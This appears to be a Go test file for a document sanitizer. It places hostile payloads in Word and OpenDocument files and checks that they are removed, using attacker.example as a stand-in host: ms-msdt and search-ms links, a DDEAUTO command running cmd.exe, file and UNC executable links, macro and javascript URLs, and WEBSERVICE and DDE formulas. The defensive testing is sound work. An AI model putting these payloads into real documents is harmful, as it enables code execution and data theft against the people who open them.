package ooxml

import (
	"testing"

	"github.com/sekisho/sekisho/sanitize"
)

// The variant generator for Word fields, OpenDocument links, scripts and field codes,
// and OpenDocument spreadsheet formulas: every payload class in every position the
// families read, built from the real report and ledger files, judged by python3 and
// LibreOffice (judge_test.go).

// fieldPayloads are Word field instructions that must go, as Word writes them (inside a
// quoted argument a backslash is written twice).
var fieldPayloads = []payload{
	{"hyperlink-l-first", `HYPERLINK \l "top" "file://attacker.example/x.exe"`, "attacker.example"},
	{"hyperlink-o-first", `HYPERLINK \o "tip" "\\\\attacker.example\\s\\x.exe"`, "attacker.example"},
	{"hyperlink-t-m", `HYPERLINK \t "_blank" \m "file:///C:/attacker.exe"`, "attacker.exe"},
	{"hyperlink-msdt", `HYPERLINK "ms-msdt:/id PCWDiagnostic /param attackerparam"`, "attackerparam"},
	{"hyperlink-search-ms", `HYPERLINK "search-ms:query=x&crumb=location:\\\\attacker.example\\s"`, "attacker.example"},
	{"hyperlink-unquoted", `HYPERLINK file://attacker.example/x.exe`, "attacker.example"},
	{"hyperlink-second-target", `HYPERLINK "https://ok.example/" "file://attacker.example/x"`, "attacker.example"},
	{"hyperlink-relative", `HYPERLINK "attackerfile.exe"`, "attackerfile"},
	{"includepicture", `INCLUDEPICTURE "http://attacker.example/p.png" \d`, "attacker.example"},
	{"includetext", `INCLUDETEXT "\\\\attacker.example\\s\\x.docx"`, "attacker.example"},
	{"ddeauto-lowercase", `ddeauto c:\\windows\\system32\\cmd.exe "/k attackercmd"`, "attackercmd"},
	{"link", `LINK Excel.Sheet.12 "\\\\attacker.example\\x.xlsx" "Sheet1!R1C1" \a`, "attacker.example"},
	{"macrobutton", `MACROBUTTON AttackerMacro Click here`, "AttackerMacro"},
	{"quoted-type", `"DDEAUTO" attackercmd`, "attackercmd"},
	{"import", `IMPORT "\\\\attacker.example\\x.wmf"`, "attacker.example"},
}

// fieldPosition places one field with a cached result in a Word document.
type fieldPosition struct {
	name, base string
	edits      func(instr string) []edit
}

const fieldResult = "Shown result text"

func complexField(instr string) string {
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + escText(instr) +
		`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + fieldResult + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func fieldPositions() []fieldPosition {
	return []fieldPosition{
		{"body-complex", "ooxml/report.docx", func(i string) []edit {
			return []edit{replace(docMain, docEnd, docEnd+complexField(i))}
		}},
		{"body-split", "ooxml/report.docx", func(i string) []edit {
			h := len(i) / 2
			split := `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + escText(i[:h]) +
				`</w:instrText></w:r><w:r><w:rPr><w:b/></w:rPr><w:instrText xml:space="preserve">` + escText(i[h:]) +
				`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + fieldResult + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
			return []edit{replace(docMain, docEnd, docEnd+split)}
		}},
		{"body-simple", "ooxml/report.docx", func(i string) []edit {
			return []edit{replace(docMain, docEnd, docEnd+`<w:fldSimple w:instr="`+escAttr(i)+`"><w:r><w:t>`+fieldResult+`</w:t></w:r></w:fldSimple>`)}
		}},
		{"table-cell", "ooxml/report.docx", func(i string) []edit {
			return []edit{replace(docMain, `<w:t>Servers</w:t></w:r>`, `<w:t>Servers</w:t></w:r>`+complexField(i))}
		}},
		{"tracked-deletion", "ooxml/report.docx", func(i string) []edit {
			del := `<w:del w:id="90" w:author="x" w:date="2026-01-01T00:00:00Z"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText xml:space="preserve">` + escText(i) +
				`</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:delText>` + fieldResult + `</w:delText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>`
			return []edit{replace(docMain, docEnd, docEnd+del)}
		}},
		{"header", "ooxml/memo.docx", func(i string) []edit {
			return []edit{replace("word/header1.xml", `<w:t>Header: internal memo</w:t></w:r>`, `<w:t>Header: internal memo</w:t></w:r>`+complexField(i))}
		}},
		{"footnote", "ooxml/memo.docx", func(i string) []edit {
			return []edit{replace("word/footnotes.xml", `<w:t>Footnote text about the budget.</w:t></w:r>`, `<w:t>Footnote text about the budget.</w:t></w:r><w:fldSimple w:instr="`+escAttr(i)+`"><w:r><w:t>`+fieldResult+`</w:t></w:r></w:fldSimple>`)}
		}},
	}
}

// TestFieldVariants: every field payload in every position goes, its result stays; a web
// link and a page number in the same positions stay.
func TestFieldVariants(t *testing.T) {
	t.Parallel() // LibreOffice round trips: each has its own profile
	_, s := newEngine(true)
	var items []judged
	for _, pos := range fieldPositions() {
		for _, b := range []struct{ instr, want string }{
			{` HYPERLINK "https://www.example.jp/" \o "tip" `, "https://www.example.jp/"},
			{` PAGE `, " PAGE "},
		} {
			benign := b.instr
			out, res, err := sanitizeBytes(t, s, "benign.docx", build(t, pos.base, pos.edits(benign)...))
			if err != nil {
				t.Fatalf("%s: benign: %v", pos.name, err)
			}
			for _, a := range res.Actions {
				if a.Kind != sanitize.ActRemovedMetadata {
					t.Errorf("%s: benign field %q: action %+v, want none", pos.name, benign, a)
				}
			}
			if pos.name != "body-split" && !partsContain(t, out, b.want) { // split: the actions say it all
				t.Errorf("%s: benign field %q did not come through", pos.name, benign)
			}
		}
		for _, p := range fieldPayloads {
			name := pos.name + "-" + p.name
			out, res, err := sanitizeBytes(t, s, name+".docx", build(t, pos.base, pos.edits(" "+p.f+" ")...))
			if err != nil {
				t.Errorf("%s: %v", name, err)
				continue
			}
			if res.Verdict != sanitize.Sanitized || len(res.Actions) < 2 {
				t.Errorf("%s: actions %+v, want the field removed", name, res.Actions)
			}
			text := []string{fieldResult}
			if pos.name == "tracked-deletion" || pos.name == "header" || pos.name == "footnote" {
				text = nil // not in LibreOffice's plain-text export
			}
			items = append(items, judged{name: uniq(len(items), name+".docx"), data: out, markers: []string{p.marker}, text: text})
		}
	}
	judge(t, items)
}

// linkPayloads are link targets no reader may follow from a sanitized document.
var linkPayloads = []payload{
	{"file", "file://attacker.example/x.exe", "attacker"},
	{"unc", `\\attacker.example\s\x.exe`, "attacker"},
	{"msdt", "ms-msdt:/id PCWDiagnostic /param attacker", "attacker"},
	{"search-ms", `search-ms:query=x&crumb=location:\\attacker.example\s`, "attacker"},
	{"basic-macro", "vnd.sun.star.script:Attacker.Module1.Main?language=Basic&location=document", "attacker"},
	{"python-macro", "vnd.sun.star.script:LibreLogo|LibreLogo.py$attacker?language=Python&location=share", "attacker"},
	{"javascript", "javascript:attacker()", "attacker"},
	{"macro-scheme", "macro:///Attacker.Module1.Main", "attacker"},
	{"relative-parent", "../attacker.exe", "attacker"},
	{"relative", "attacker.exe", "attacker"},
	{"uppercase-spaced", "  FILE://attacker.example/x", "attacker"},
	{"mhtml", "mhtml:http://attacker.example/x!x-usc:http://attacker.example/x", "attacker"},
	{"uno-command", ".uno:AttackerCommand", "attacker"},
}

const odtShown = "Shown link text"

// odtPositions place a link target (or a script URL, or a Word field code) in report.odt.
func odtPositions() map[string]func(v string) []edit {
	in := func(snippet string) []edit {
		return []edit{replace("content.xml", odtEnd, `<text:p text:style-name="Standard">`+snippet+`</text:p>`+odtEnd)}
	}
	return map[string]func(v string) []edit{
		"text-link": func(v string) []edit {
			return in(`<text:a xlink:type="simple" xlink:href="` + escAttr(v) + `">` + odtShown + `</text:a>`)
		},
		"frame-link": func(v string) []edit {
			return in(`<draw:a xlink:type="simple" xlink:href="` + escAttr(v) + `"><draw:frame draw:name="F1" text:anchor-type="as-char" svg:width="2cm" svg:height="1cm"><draw:text-box><text:p>` + odtShown + `</text:p></draw:text-box></draw:frame></draw:a>`)
		},
		"form-button": func(v string) []edit {
			return []edit{replace("content.xml", `<office:text>`, `<office:text><office:forms form:automatic-focus="false" form:apply-design-mode="false"><form:form form:name="Standard" xlink:type="simple" xlink:href="`+escAttr(v)+`"><form:button form:name="B1" form:control-implementation="ooo:com.sun.star.form.component.CommandButton" form:id="control1" form:button-type="url" xlink:href="`+escAttr(v)+`" form:label="Go"/></form:form></office:forms>`)}
		},
		"bibliography-url": func(v string) []edit {
			return in(`<text:bibliography-mark text:identifier="b1" text:bibliography-type="www" text:url="` + escAttr(v) + `">` + odtShown + `</text:bibliography-mark>`)
		},
		"execute-macro": func(v string) []edit {
			return in(`<text:execute-macro text:name="` + escAttr(v) + `">` + odtShown + `</text:execute-macro>`)
		},
		"event-listener": func(v string) []edit {
			return in(`<draw:frame draw:name="F2" text:anchor-type="as-char" svg:width="2cm" svg:height="1cm"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:click" xlink:href="` + escAttr(v) + `"/></office:event-listeners><draw:text-box><text:p>` + odtShown + `</text:p></draw:text-box></draw:frame>`)
		},
	}
}

// TestODTVariants: link targets, script URLs and Word field codes in every position of an
// OpenDocument text; the shown text stays.
func TestODTVariants(t *testing.T) {
	t.Parallel() // LibreOffice round trips: each has its own profile
	_, s := newEngine(true)
	var items []judged
	add := func(name string, edits []edit, marker string) {
		out, res, err := sanitizeBytes(t, s, name+".odt", build(t, "odf/report.odt", edits...))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
		if res.Verdict != sanitize.Sanitized {
			t.Errorf("%s: verdict %s", name, res.Verdict)
		}
		items = append(items, judged{name: uniq(len(items), name+".odt"), data: out, markers: []string{marker}, text: []string{"End of the sample report"}})
	}
	for pos, edits := range odtPositions() {
		for _, p := range linkPayloads {
			add(pos+"-"+p.name, edits(p.f), p.marker)
		}
	}
	for _, p := range fieldPayloads {
		mark := `<field:fieldmark-start text:name="__Fieldmark__9" field:type="vnd.oasis.opendocument.field.UNHANDLED"><field:param field:name="vnd.oasis.opendocument.field.code" field:value="` + escAttr(p.f) + `"/></field:fieldmark-start>` + fieldResult + `<field:fieldmark-end/>`
		add("fieldmark-"+p.name, []edit{replace("content.xml", odtEnd, `<text:p text:style-name="Standard">`+mark+`</text:p>`+odtEnd)}, p.marker)
	}
	for _, f := range []string{"attackerfunc(1)", "WEBSERVICE(\"http://attacker.example/\")"} {
		cond := `<text:conditional-text text:condition="ooow:` + escAttr(f) + ` == 1" text:string-value-if-true="yes" text:string-value-if-false="no">no</text:conditional-text>`
		add("conditional-text-"+f[:8], []edit{replace("content.xml", odtEnd, `<text:p text:style-name="Standard">`+cond+`</text:p>`+odtEnd)}, "attacker")
		expr := `<text:expression text:formula="ooow:` + escAttr(f) + `" office:value-type="float" office:value="0">0</text:expression>`
		add("expression-"+f[:8], []edit{replace("content.xml", odtEnd, `<text:p text:style-name="Standard">`+expr+`</text:p>`+odtEnd)}, "attacker")
	}
	// A web link, a benign field code and a Writer formula stay.
	for _, b := range []struct {
		name  string
		edits []edit
		want  string
	}{
		{"web-link", odtPositions()["text-link"]("https://www.example.jp/"), "https://www.example.jp/"},
		{"page-field", []edit{replace("content.xml", odtEnd, `<text:p><field:fieldmark-start text:name="__Fieldmark__8" field:type="vnd.oasis.opendocument.field.UNHANDLED"><field:param field:name="vnd.oasis.opendocument.field.code" field:value=" PAGE "/></field:fieldmark-start>1<field:fieldmark-end/></text:p>`+odtEnd)}, `field:value=" PAGE "`},
		{"writer-field", []edit{replace("content.xml", odtEnd, `<text:p><text:expression text:formula="ooow:2+3" office:value-type="float" office:value="5">5</text:expression></text:p>`+odtEnd)}, "ooow:2+3"},
	} {
		name := b.name
		out, res, err := sanitizeBytes(t, s, name+".odt", build(t, "odf/report.odt", b.edits...))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, a := range res.Actions {
			if a.Kind != sanitize.ActRemovedMetadata {
				t.Errorf("benign %s: action %+v, want none", name, a)
			}
		}
		if !partsContain(t, out, b.want) {
			t.Errorf("benign %s did not come through (no %s)", name, b.want)
		}
	}
	judge(t, items)
}

// odfPayloads are OpenFormula payloads (after "of:=").
var odfPayloads = []payload{
	{"webservice", `WEBSERVICE("http://attacker.example/w")`, "attacker.example"},
	{"webservice-ms", `COM.MICROSOFT.WEBSERVICE("http://attacker.example/w")`, "attacker.example"},
	{"dde-function", `DDE("attackerapp";"topic";"item")`, "attackerapp"},
	{"external-reference", `['file:///attacker.example/x.ods'#$Sheet1.A1]`, "attacker.example"},
	{"file-hyperlink", `HYPERLINK("file://attacker.example/x.exe";"x")`, "attacker.example"},
	{"indirect-file", `INDIRECT("'file:///attacker.example/x.ods'#$Sheet1.A1")`, "attacker.example"},
	{"filterxml", `COM.MICROSOFT.FILTERXML("<a>attackerxml</a>";"//a")`, "attackerxml"},
	{"addin", `com.sun.star.sheet.addin.AttackerAddin.run(1)`, "AttackerAddin"},
}

const (
	odsTotal   = `table:formula="of:=SUM([.B2:.B3])"`
	odsRentB2  = `<table:table-cell office:value-type="float" office:value="1500" calcext:value-type="float">`
	odsStyles  = `<office:automatic-styles>`
	odsNamed   = `<table:named-expressions/>`
	odsLedger1 = `<table:table table:name="Ledger" table:style-name="ta1">`
)

// odsPositions place an OpenFormula expression (or a condition built on one) in ledger.ods.
func odsPositions() map[string]func(f string) []edit {
	r := func(old, new string) edit { return replace("content.xml", old, new) }
	return map[string]func(f string) []edit{
		"cell": func(f string) []edit { return []edit{r(odsTotal, `table:formula="of:=`+escAttr(f)+`"`)} },
		"cell-prefix": func(f string) []edit {
			return []edit{r(odsTotal, `xmlns:zz="urn:oasis:names:tc:opendocument:xmlns:of:1.2" table:formula="zz:=`+escAttr(f)+`"`)}
		},
		"cell-unprefixed": func(f string) []edit { return []edit{r(odsTotal, `table:formula="=`+escAttr(f)+`"`)} },
		"validation": func(f string) []edit {
			return []edit{
				r(odsLedger1, `<table:content-validations><table:content-validation table:name="val1" table:condition="of:is-true-formula(`+escAttr(f)+`)" table:allow-empty-cell="true" table:base-cell-address="Ledger.B2"/></table:content-validations>`+odsLedger1),
				r(odsRentB2, `<table:table-cell table:content-validation-name="val1" office:value-type="float" office:value="1500" calcext:value-type="float">`),
			}
		},
		"style-map": func(f string) []edit {
			return []edit{
				r(odsStyles, odsStyles+`<style:style style:name="ce9" style:family="table-cell" style:parent-style-name="Default"><style:map style:condition="is-true-formula(`+escAttr(f)+`)" style:apply-style-name="Default" style:base-cell-address="Ledger.B2"/></style:style>`),
				r(odsRentB2, `<table:table-cell table:style-name="ce9" office:value-type="float" office:value="1500" calcext:value-type="float">`),
			}
		},
		"conditional-format": func(f string) []edit {
			return []edit{r(`</table:table><table:table table:name="Notes"`, `<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Ledger.B2:Ledger.B4"><calcext:condition calcext:apply-style-name="Default" calcext:value="formula-is(`+escAttr(f)+`)" calcext:base-cell-address="Ledger.B2"/></calcext:conditional-format></calcext:conditional-formats></table:table><table:table table:name="Notes"`)}
		},
		"named-expression": func(f string) []edit {
			return []edit{r(odsNamed, `<table:named-expressions><table:named-expression table:name="Payload" table:base-cell-address="$Ledger.$A$1" table:expression="of:=`+escAttr(f)+`"/></table:named-expressions>`)}
		},
	}
}

// TestODSVariants: every OpenFormula payload in every formula and condition position of an
// OpenDocument spreadsheet, plus a named range over another file's cells.
func TestODSVariants(t *testing.T) {
	t.Parallel() // LibreOffice round trips: each has its own profile
	_, s := newEngine(true)
	var items []judged
	for pos, edits := range odsPositions() {
		out, res, err := sanitizeBytes(t, s, "benign.ods", build(t, "odf/ledger.ods", edits("SUM([.B2:.B3])")...))
		if err != nil {
			t.Fatalf("%s: benign: %v", pos, err)
		}
		for _, a := range res.Actions {
			if a.Kind != sanitize.ActRemovedMetadata {
				t.Errorf("%s: benign formula: action %+v, want none", pos, a)
			}
		}
		for _, p := range odfPayloads {
			name := pos + "-" + p.name
			out, res, err = sanitizeBytes(t, s, name+".ods", build(t, "odf/ledger.ods", edits(p.f)...))
			if err != nil {
				t.Errorf("%s: %v", name, err)
				continue
			}
			if !hasFormulaAction(res) {
				t.Errorf("%s: no formula removal reported: %+v", name, res.Actions)
			}
			items = append(items, judged{name: uniq(len(items), name+".ods"), data: out, markers: []string{p.marker}, text: []string{"Rent", "1820"}})
		}
	}
	ext := replace("content.xml", odsNamed, `<table:named-expressions><table:named-range table:name="Ext" table:base-cell-address="$Ledger.$A$1" table:cell-range-address="'file:///attacker.example/x.ods'#$Sheet1.A1"/></table:named-expressions>`)
	out, res, err := sanitizeBytes(t, s, "named-range.ods", build(t, "odf/ledger.ods", ext))
	if err != nil || !hasFormulaAction(res) {
		t.Errorf("named range to another file: %+v, %v", res.Actions, err)
	}
	items = append(items, judged{name: uniq(len(items), "named-range.ods"), data: out, markers: []string{"attacker.example"}})
	judge(t, items)
}
